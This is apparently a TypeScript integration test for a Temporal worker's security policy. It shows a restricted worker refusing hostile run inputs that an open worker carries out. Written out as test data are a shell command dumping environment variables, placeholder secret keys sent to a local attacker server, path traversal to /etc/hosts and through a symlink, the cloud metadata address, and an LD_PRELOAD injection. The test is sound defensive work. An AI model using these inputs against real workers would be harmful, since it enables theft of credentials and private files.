/** Shows what a starter may make a live worker do, with a policy and without. */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { ApplicationFailure, defaultPayloadConverter } from '@temporalio/common';
import { WorkflowFailedError, type WorkflowHandle } from '@temporalio/client';
import { failureMessage } from '../../src/client/index.ts';
import type { Problem } from '../../src/platform/problem.ts';
import { type Cluster, startCluster, type WorkerProcess } from '../support/cluster.ts';
import { type PlainRequest, type PlainServer, startPlainServer } from '../support/plain-server.ts';
import { sampleJudge } from '../support/sample-judge.ts';
import { type ScriptedEndpoint, startScriptedEndpoint } from '../support/scripted-endpoint.ts';

const SECRETS = Object.fromEntries(
  ['HF_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'KEY_1', 'KEY_2', 'KEY_3', 'KEY_4'].map((name) => [
    name,
    `secret-${name}`,
  ]),
);
const PAIR = JSON.stringify({ instruction: 'which?', responseA: 'it is 1', responseB: 'it is 2' });
type Queue = 'strict' | 'open';

describe('a starter who attacks a worker', function () {
  this.timeout(180_000);
  let cluster: Cluster;
  let workers: Record<Queue, WorkerProcess>;
  let honest: ScriptedEndpoint;
  let attacker: PlainServer;
  /** The folder of the worker with a policy; it is one of the worker's own folders. */
  let store: string;
  /** In none of the worker's folders. */
  let outside: string;
  let judgeFile: string;

  before(async () => {
    cluster = await startCluster(undefined, SECRETS);
    honest = await startScriptedEndpoint({
      script: () => ({ kind: 'answer', texts: ['It is [[B]]'], finishReason: 'stop' }),
    });
    attacker = await startPlainServer(() => ({ status: 401, body: { error: 'no' } }));
    store = join(dirname(cluster.storeRoot), 'strict');
    outside = join(dirname(cluster.storeRoot), 'outside');
    for (const folder of [store, outside]) await mkdir(folder);
    await writeFile(join(outside, 'private.jsonl'), PAIR);
    await writeFile(join(store, 'pairs.jsonl'), PAIR);
    await symlink(join(outside, 'private.jsonl'), join(store, 'link.jsonl'));
    judgeFile = join(store, 'judge.json');
    await writeFile(judgeFile, JSON.stringify(sampleJudge()));
    const policy = join(dirname(cluster.storeRoot), 'policy.json');
    await writeFile(policy, JSON.stringify({ endpoints: [new URL(honest.baseUrl).host, 'localhost'] }));
    workers = {
      strict: cluster.startWorker('--task-queue', 'strict', '--store', store, '--policy', policy),
      open: cluster.startWorker('--task-queue', 'open'),
    };
  });

  after(async () => {
    await cluster.close();
    await honest.close();
    await attacker.close();
  });

  let started = 0;
  const start = (taskQueue: Queue, type: string, input: object): Promise<WorkflowHandle> => {
    const runName = `attack-${(started += 1)}`;
    return cluster.client.workflow.start(type, {
      ...{ workflowId: runName, taskQueue },
      args: [{ runName, ...input }],
    });
  };

  /** The paths of the problems by which a start is refused. */
  async function refusal(type: string, input: object): Promise<string[]> {
    return (await problemsOf(type, input)).map(({ path }) => path);
  }

  async function problemsOf(type: string, input: object): Promise<readonly Problem[]> {
    const handle = await start('strict', type, input);
    const error: unknown = await handle.result().catch((thrown: unknown) => thrown);
    assert(error instanceof WorkflowFailedError && error.cause instanceof ApplicationFailure, String(error));
    return (error.cause.details?.[0] ?? []) as Problem[];
  }

  const judging = (changes: object) => ({
    serving: { kind: 'endpoint', baseUrl: honest.baseUrl, servedModelName: 'judge' },
    ...{ judgeFile, pairsFile: join(store, 'pairs.jsonl') },
    ...changes,
  });
  const evaluation = (serving: object) => ({
    serving,
    evaluation: {
      benchmarks: [
        { name: 'b', format: 'reward-bench', path: 'embedded/benchmark/test.jsonl', purpose: 'test' },
      ],
    },
  });

  it('gets what a policy allows', async () => {
    const handle = await start('strict', 'judgePairsFile', judging({}));
    const { figures } = (await handle.result()) as { figures: { pairs: number } };
    assert.equal(figures.pairs, 1);
  });

  it('starts a shell with the variables of the worker only without a policy', async () => {
    const canary = join(outside, 'environment');
    const serving = { kind: 'command', command: ['sh', '-c', `env > ${canary}; sleep 60`] };
    const shell = judging({ serving, model: { checkpoint: 'embedded/model' } });
    assert.deepEqual(await refusal('judgePairsFile', shell), ['serving.command']);
    assert(!existsSync(canary));
    const handle = await start('open', 'judgePairsFile', shell);
    while (!existsSync(canary)) await sleep(100);
    await handle.cancel();
    await handle.result().catch(() => undefined);
  });

  it('sends keys to an address of the starter only without a policy', async () => {
    const names = Object.keys(SECRETS);
    const stolen = evaluation({
      ...{ kind: 'endpoint', servedModelName: 'judge', apiKeyEnv: names },
      baseUrl: names.map((_, index) => `${attacker.origin}/${index}/v1`),
    });
    assert.deepEqual(await refusal('evaluateJudge', stolen), [
      ...names.map((_, index) => `serving.baseUrl.${index}`),
      ...names.map(() => 'serving.apiKeyEnv'),
    ]);
    assert.equal(attacker.requests.length, 0);
    const handle = await start('open', 'evaluateJudge', stolen);
    await handle.result().catch(() => undefined);
    const sent = attacker.requests.map((request: PlainRequest) => request.headers.authorization);
    for (const secret of Object.values(SECRETS)) assert(sent.includes(`Bearer ${secret}`), secret);
  });

  it('sends a key to an endpoint that is named only if the key is named for it', async () => {
    const serving = { ...judging({}).serving, apiKeyEnv: 'KEY_1' };
    const before = honest.requests.length;
    const [problem] = await problemsOf('judgePairsFile', judging({ serving }));
    assert.equal(problem?.path, 'serving.apiKeyEnv');
    assert.match(problem.message, /add "127\.0\.0\.1:\d+" to keyVariables\.KEY_1 of the policy file/);
    assert.equal(honest.requests.length, before);
  });

  it('reaches no inner address by a name that leads there', async () => {
    const baseUrl = `${attacker.origin.replace('127.0.0.1', 'localhost')}/v1`;
    const before = attacker.requests.length;
    const [problem] = await problemsOf(
      'judgePairsFile',
      judging({ serving: { kind: 'endpoint', baseUrl, servedModelName: 'judge' } }),
    );
    assert.equal(problem?.path, 'serving');
    assert.match(problem.message, /its name leads to (127\.0\.0\.1|::1), which is no public address: add/);
    assert.equal(attacker.requests.length, before);
  });

  it('reads a file anywhere on the disk only without a policy, also by a link', async () => {
    const pairsFile = join(outside, 'private.jsonl');
    for (const path of [pairsFile, join(store, 'link.jsonl'), '../../../../../../etc/hosts'])
      assert.deepEqual(await refusal('judgePairsFile', judging({ pairsFile: path })), ['pairsFile'], path);
    const handle = await start('open', 'judgePairsFile', judging({ pairsFile }));
    const { figures } = (await handle.result()) as { figures: { pairs: number } };
    assert.equal(figures.pairs, 1);
  });

  it('is told every field of a run that the policy forbids: programs, code, trackers, publishing, files', async () => {
    const run = {
      ...evaluation({ kind: 'command', command: ['template:x'], environment: { LD_PRELOAD: '/tmp/x.so' } }),
      models: {
        seed: { checkpoint: 'some/model' },
        generator: {
          checkpoint: outside,
          serving: { kind: 'endpoint', baseUrl: 'http://169.254.169.254/v1', servedModelName: 'm' },
        },
      },
      instructions: { pool: ['hf://datasets/some/set@main/x.jsonl', `${outside}/*.jsonl`] },
      judging: { prompt: outside },
      fineTuning: {
        launcher: { kind: 'process', command: ['sh', '-c', 'true'] },
        ...{ reportTo: ['wandb'], trustRemoteCode: true },
      },
      publish: { model: 'some/judge', tokenEnv: 'KEY_1' },
      publishTo: 's3://bucket/x',
    };
    assert.deepEqual((await refusal('selfTaughtEvaluator', run)).toSorted(), [
      'fineTuning.launcher.command',
      'fineTuning.reportTo.0',
      'fineTuning.trustRemoteCode',
      'instructions.pool.0',
      'instructions.pool.1',
      'judging.prompt',
      'models.generator.serving.baseUrl',
      'models.seed.checkpoint',
      'publish.model',
      'publish.tokenEnv',
      'publishTo',
      'serving.command',
      'serving.environment.LD_PRELOAD',
    ]);
  });

  it('gets no further with work that another worker has checked: the connection itself is refused', async () => {
    const handle = await start('strict', 'judgePairsFile', judging({ seed: 2 }));
    await handle.result();
    const [shards] = await inputOfChild(handle.workflowId);
    const { shardInput } = shards as { shardInput: { model: object } };
    const before = attacker.requests.length;
    for (const [model, reason] of [
      [{ baseUrl: `${attacker.origin}/v1` }, /does not allow requests to 127\.0\.0\.1/],
      [{ apiKeyEnv: 'HF_TOKEN' }, /does not allow the variable HF_TOKEN as a key/],
    ] as const) {
      const forged = {
        ...(shards as object),
        shardInput: { ...shardInput, model: { ...shardInput.model, ...model } },
      };
      // So that the stored verdicts are not taken.
      await rm(join(store, handle.workflowId, 'comparisons', 'shard-00000'), {
        recursive: true,
        force: true,
      });
      const child = await cluster.client.workflow.start('mapShards', {
        ...{ workflowId: `forged-${Object.keys(model).join('')}`, taskQueue: 'strict' },
        args: [forged],
      });
      const error: unknown = await child.result().catch((thrown: unknown) => thrown);
      assert(error instanceof WorkflowFailedError, String(error));
      assert.match(failureMessage(error), reason);
    }
    assert.equal(attacker.requests.length, before);
  });

  /** The input of the workflow that worked on the shards of another one. */
  async function inputOfChild(workflowId: string): Promise<unknown[]> {
    const { events } = await cluster.client.workflow.getHandle(workflowId).fetchHistory();
    const initiated = events?.flatMap(
      ({ startChildWorkflowExecutionInitiatedEventAttributes: child }) => child?.input?.payloads ?? [],
    );
    assert(initiated !== undefined && initiated.length > 0);
    return initiated.map((payload) => defaultPayloadConverter.fromPayload(payload));
  }

  it('is told by the log of each worker which policy holds', async () => {
    const expected = {
      strict: /policy: strict, with what .*policy\.json names/,
      open: /policy: open at the Temporal server that this checkout starts/,
    };
    for (const queue of ['strict', 'open'] as const) {
      const worker = workers[queue];
      while (!worker.log().includes('worker with roles') && worker.child.exitCode === null) await sleep(100);
      assert.match(worker.log(), expected[queue]);
    }
  });
});
